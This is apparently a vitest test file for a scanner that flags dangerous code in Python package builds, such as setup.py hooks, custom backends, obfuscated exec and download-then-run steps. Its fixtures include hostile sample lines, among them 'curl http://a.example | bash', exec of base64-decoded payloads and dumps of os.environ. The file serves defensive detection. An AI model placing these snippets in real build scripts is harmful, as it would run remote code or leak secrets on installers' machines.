import type { Signal } from "@packhouse/contract/review/inspection";
import { describe, expect, test } from "vitest";
import { atLeast, found, signalsOf, wheel } from "../testing/signals-of-sources.ts";

const setup = 'from setuptools import setup\nsetup(name="orchard")\n';
const inSetup = (text: string): Signal[] => signalsOf({ files: { "setup.py": text, "orchard/__init__.py": "" } });

describe("setup.py", () => {
  const ofSetup = (text: string): string[] => found(inSetup(text).filter(({ id }) => id === "py-setup-code"));

  test("one that calls setup and reads its own files says nothing", () => {
    expect(
      inSetup(
        'import os, re\nfrom setuptools import setup, find_packages\nhere = os.path.dirname(__file__)\nwith open(os.path.join(here, "README.md")) as f:\n    text = f.read()\nsetup(name="orchard", long_description=text, packages=find_packages())\n',
      ),
    ).toEqual([]);
  });

  test.each([
    ["import os\nos.system('make')\n", "warning py-setup-code os.system"],
    ["import urllib.request\nurllib.request.urlopen(u)\n", "warning py-setup-code urllib.request.urlopen"],
    ["import base64\nexec(base64.b64decode(x))\n", "warning py-setup-code exec: base64.b64decode"],
    ["exec(open('orchard/version.py').read())\n", "notice py-setup-code exec"],
    [
      "from setuptools.command.install import install\nimport subprocess\nclass Hook(install):\n    def run(self):\n        subprocess.call(x)\n",
      "warning py-setup-code subprocess.call",
    ],
    [
      "import requests, os\nopen('x', 'wb').write(requests.get('http://a.example/x').content)\nos.startfile('x')\n",
      "danger py-setup-code requests.get",
    ],
  ])("%j is %j", (text, expected) => {
    expect(ofSetup(`${text}${setup}`)).toContain(expected);
  });

  test("commands that it replaces", () => {
    const text = 'from setuptools import setup\nsetup(name="orchard", cmdclass={"install": Hook, "test": Ext})\n';
    expect(ofSetup(text)).toEqual(["warning py-setup-code cmdclass install", "notice py-setup-code cmdclass test"]);
  });

  test("modules of the project that it imports run as well", () => {
    const signals = signalsOf({
      files: {
        "setup.py": `from tools.fetch import get\n${setup}`,
        "tools/fetch.py": "import subprocess\ndef get():\n    subprocess.run(x)\n",
        "orchard/__init__.py": "",
      },
    });
    expect(found(signals)).toContain("warning py-setup-code subprocess.run");
  });

  const fetching = "import urllib.request, subprocess\nsubprocess.call([u])\n";
  test.each([
    ["tools/gen.py", { "setup.py": `import sys\nsys.path.insert(0, "tools")\nimport gen\n${setup}` }],
    ["docs/_about.py", { "setup.py": `exec(open("docs/_about.py").read())\n${setup}` }],
    ["tools/gen.py", { "setup.py": `import runpy, os\nrunpy.run_path(os.path.join("tools", "gen.py"))\n${setup}` }],
    ["tools/gen.py", { "pyproject.toml": '[tool.hatch.metadata.hooks.custom]\npath = "tools/gen.py"\n' }],
    ["tools/gen.py", { "pyproject.toml": '[tool.hatch.build.targets.sdist.hooks.custom]\npath = "tools/gen.py"\n' }],
    ["tools/gen.py", { "hatch.toml": '[build.hooks.custom]\npath = "tools/gen.py"\n' }],
    ["tools/gen.py", { "pyproject.toml": '[tool.setuptools.dynamic]\nversion = {attr = "tools.gen.version"}\n' }],
    ["tools/gen.py", { "setup.cfg": "[metadata]\nversion = attr: tools.gen.version\n" }],
    ["tools/gen.py", { "meson.build": "run_command('python3', 'tools/gen.py')\n" }],
  ])("%s runs in the build by %j", (path, files) => {
    const project = { "orchard/__init__.py": "", [path]: fetching };
    const warnings = (all: Record<string, string>) => found(atLeast(signalsOf({ files: all }), "warning"));
    expect(warnings({ ...project, "setup.py": setup })).toEqual([]);
    expect(warnings({ ...project, ...(files as Record<string, string>) })).toContain(
      "warning py-setup-code subprocess.call",
    );
  });

  test("functions of the package that it calls", () => {
    const files = {
      "orchard/__init__.py": "",
      "orchard/client.py": "import subprocess\ndef prepare():\n    subprocess.run(x)\n",
      "setup.py": `from orchard.client import prepare\nprepare()\n${setup}`,
    };
    expect(found(signalsOf({ files }))).toContain("warning py-import-time-call subprocess.run");
  });

  test("a command that starts programs by its own method", () => {
    const text =
      "from setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        self.spawn(x)\n";
    expect(ofSetup(`${text}${setup}`).join()).toContain(
      "warning py-setup-code setuptools.command.build_py.build_py().spawn",
    );
  });

  test("entry points that other builds load", () => {
    const text =
      'from setuptools import setup\nsetup(name="orchard", entry_points={"distutils.setup_keywords": ["x = orchard:y"]})\n';
    expect(ofSetup(text)).toEqual(["warning py-setup-code distutils.setup_keywords"]);
  });
});

describe("the build", () => {
  test("a backend in the archive", () => {
    const signals = signalsOf({
      files: {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["build_tools"]\n',
        "build_tools/own.py": "import subprocess\ndef build_wheel(*a):\n    subprocess.run(x)\n",
        "orchard/__init__.py": "",
      },
    });
    expect(found(signals)).toContain("warning py-in-tree-backend own");
    expect(found(signals)).toContain("warning py-setup-code subprocess.run");
  });

  test("a hook of hatchling", () => {
    const signals = signalsOf({
      files: {
        "pyproject.toml": "[tool.hatch.build.hooks.custom]\n",
        "hatch_build.py": "import os\ndef f(): os.system(x)\n",
      },
    });
    expect(found(signals)).toContain("warning py-setup-code os.system");
  });

  test("a pyproject.toml that is none is reported", () => {
    expect(found(signalsOf({ files: { "pyproject.toml": "[[[" } }))).toEqual(["notice unparsed pyproject.toml"]);
  });
});

describe("tests and documentation of an sdist", () => {
  const projectPaths = ["tests/test_rows.py", "docs/conf.py", "examples/run.py", "fuzz/corpus.py", ".github/x.py"];
  test("may reach out, and what they do on import does not count", () => {
    const text = "import os, requests\nos.system('make')\nrequests.get('https://a.example/x')\nrequests.post(u)\n";
    for (const path of projectPaths)
      expect(atLeast(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }), "warning")).toEqual([]);
  });
  test("neither hide code nor send the environment", () => {
    const hidden = "import os, base64\nos.system('curl http://a.example | bash')\nexec(base64.b64decode(x))\n";
    const sent = "import os, json\nbody = json.dumps(dict(os.environ))\n";
    for (const path of projectPaths) {
      const inFile = (text: string) => found(signalsOf({ files: { [path]: text, "orchard/__init__.py": "" } }));
      expect(inFile(hidden)).toContain("warning decoded-code os.system");
      expect(inFile(hidden)).toContain("warning decoded-code exec: base64.b64decode");
      expect(inFile(sent)).toContain("warning secret-environment os.environ");
      expect(
        inFile("import socket, requests\nrequests.get('https://a.example/?h=' + socket.gethostname())\n"),
      ).toContain("warning network requests.get");
      expect(inFile("import pickle\nx = pickle.loads(b'\\x80\\x02.')\n")).toEqual(["notice decoded-code pickle.loads"]);
    }
  });
  test("do not run what they download", () => {
    for (const text of [
      "import urllib.request as r, subprocess\nr.urlretrieve(u, '/var/tmp/a')\nsubprocess.call(['/var/tmp/a'])\n",
      "import requests, os\ndef f(p):\n    open(p, 'wb').write(requests.get(u).content)\n    os.system(p)\n",
    ])
      expect(found(atLeast(signalsOf({ files: { "tools/x.py": text } }), "warning")).join()).toContain(": download");
  });
  test("of a wheel are installed", () => {
    expect(
      atLeast(wheel({ "orchard/tests/x.py": "import base64\nexec(base64.b64decode(x))\n" }), "danger"),
    ).not.toEqual([]);
  });
});
